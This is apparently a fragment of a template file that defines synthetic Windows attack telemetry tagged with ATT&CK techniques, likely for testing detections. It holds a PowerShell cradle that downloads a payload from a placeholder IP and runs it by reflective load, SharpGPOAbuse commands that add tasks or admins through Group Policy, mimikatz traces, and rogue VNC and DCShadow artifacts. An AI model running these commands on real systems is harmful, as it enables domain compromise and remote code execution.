near-rare-wallpaper value: C:\Windows\«explorer.exe¦System32\svchost.exe» ;; ‹hku›\Control Panel\Desktop\Wallpaper ;; C:\«Windows\Web\Wallpaper\Windows\img0.jpg¦Users\‹user›\Pictures\‹name›.jpg¦ProgramData\‹Word›\branding.jpg»
rare-policy-file file +T1484.001: «‹own›¦‹ps›» ;; \\‹fqdn›\SYSVOL\‹fqdn›\Policies\‹guid›\«Machine\Preferences\ScheduledTasks\ScheduledTasks.xml¦Machine\Scripts\Startup\‹name›.bat¦Machine\Microsoft\Windows NT\SecEdit\GptTmpl.inf»
rare-policy-tool process +T1484.001: ‹ownplace›\«SharpGPOAbuse¦StandIn¦pyGPOAbuse¦‹name›».exe ;; ‹ownplace›\«SharpGPOAbuse¦‹name›».exe --Add«ComputerTask --TaskName ‹name› --Author ‹domain›\‹user› --Command cmd.exe --Arguments "/c ‹name›"¦LocalAdmin --UserAccount ‹user›» --GPOName "Default Domain Policy" ;; «‹cmd›¦‹ps›»
rare-reflect-script log +T1620: Microsoft-Windows-PowerShell|Microsoft-Windows-PowerShell/Operational|4104 ;; MessageNumber=1 ;; MessageTotal=1 ;; ScriptBlockText=«$d=(New-Object Net.WebClient).DownloadData('http://‹ip›/‹name›.bin'); $t=[Reflection.Assembly]::Load($d).GetTypes()[0]; $t.GetMethods()[0].Invoke($null,$null)¦[AppDomain]::CurrentDomain.Load([IO.File]::ReadAllBytes('C:\ProgramData\‹name›.dat')).EntryPoint.Invoke($null,@(,@('‹name›')))»
rare-exploit-netlogon log +T1210: NETLOGON|System|«5805¦5723» ;; param1=«mimikatz¦‹letters8›» ;; param2=‹domain› ;; param3=%%5
rare-exploit-child process +T1210: @ ;; «cmd.exe /c whoami¦rundll32.exe¦powershell.exe -enc ‹enc›¦‹own›» ;; C:\Windows\System32\«dns¦spoolsv¦lsass».exe
rare-vnc-service service +T1021.005: «tvnserver¦uvnc_service¦VNC Server¦winvnc4» ;; «"C:\ProgramData\‹name›\tvnserver.exe" -service¦"C:\Users\Public\winvnc.exe" -service¦"C:\Program Files\TightVNC\tvnserver.exe" -service»
rare-vnc-port connected +T1021.005: C:\«ProgramData\‹name›¦Users\Public»\«winvnc¦tvnserver¦vncviewer».exe ;; «5900¦5500¦5901» ;; -
rare-dcshadow-name dirvalue +T1207: CN=‹server›,OU=Workstations,‹dc› ;; computer ;; servicePrincipalName ;; «E3514235-4B06-11D1-AB04-00C04FC2DCD2/‹guid›/‹fqdn›¦GC/‹host›.‹fqdn›/‹fqdn›»
"""
)
